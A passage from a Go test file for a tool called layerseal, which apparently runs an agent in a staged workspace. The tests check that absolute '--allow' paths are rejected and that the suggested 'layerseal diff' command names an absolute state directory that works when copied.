			t.Fatalf("the agent ran despite config %q", c.yaml)
		}
	}
	if err := os.Remove(filepath.Join(e.ws, "layerseal.yaml")); err != nil {
		t.Fatal(err)
	}
	code, log := e.run(filepath.Join(e.dir, "out2"), "true", "--allow", "/abs")
	if code != exitUsage || !strings.Contains(log, "absolute") {
		t.Errorf("--allow /abs: exit %d\n%s", code, log)
	}
}

// TestStagedSuggestionWorks: the command line run suggests for a staged
// session names the state dir it used, so it works when copied, and
// LAYERSEAL_STATE_DIR stands for --state-dir.
func TestStagedSuggestionWorks(t *testing.T) {
	e := newEnv(t)
	write(t, e.ws, baseTree)
	out := filepath.Join(e.dir, "s1")
	code, log := e.run(out, `echo changed > file.txt`, "--stage")
	if code != 0 {
		t.Fatalf("run: exit %d\n%s", code, log)
	}
	m := regexp.MustCompile("`layerseal (diff [^`]*)`").FindStringSubmatch(log)
	if m == nil || !strings.Contains(m[1], "--state-dir") {
		t.Fatalf("no `layerseal diff --state-dir ...` suggestion in:\n%s", log)
	}
	if diff := e.mustCLI(0, strings.Fields(m[1])...); !strings.Contains(diff, "M  file.txt\n") {
		t.Errorf("the suggested %q printed:\n%s", m[1], diff)
	}
	code, stdout, stderr := e.cliEnv([]string{"LAYERSEAL_STATE_DIR=" + e.state}, "diff", out)
	if code != 0 || !strings.Contains(stdout, "M  file.txt\n") {
		t.Errorf("diff with LAYERSEAL_STATE_DIR: exit %d\n%s%s", code, stdout, stderr)
	}
	// A relative --state-dir is suggested absolute, to work from anywhere.
	var got string
	c := &cli.Command{Name: "x", Flags: []cli.Flag{stateDirFlag()}, Action: func(_ context.Context, cmd *cli.Command) error {
		got = sessionArgs(cmd, "id")
		return nil
	}}
	if err := c.Run(context.Background(), []string{"x", "--state-dir", "rel/st"}); err != nil {
		t.Fatal(err)
	}
	wd, _ := os.Getwd()
	if want := "--state-dir " + filepath.Join(wd, "rel/st") + " id"; got != want {
		t.Errorf("sessionArgs = %s, want %s", got, want)
	}
}
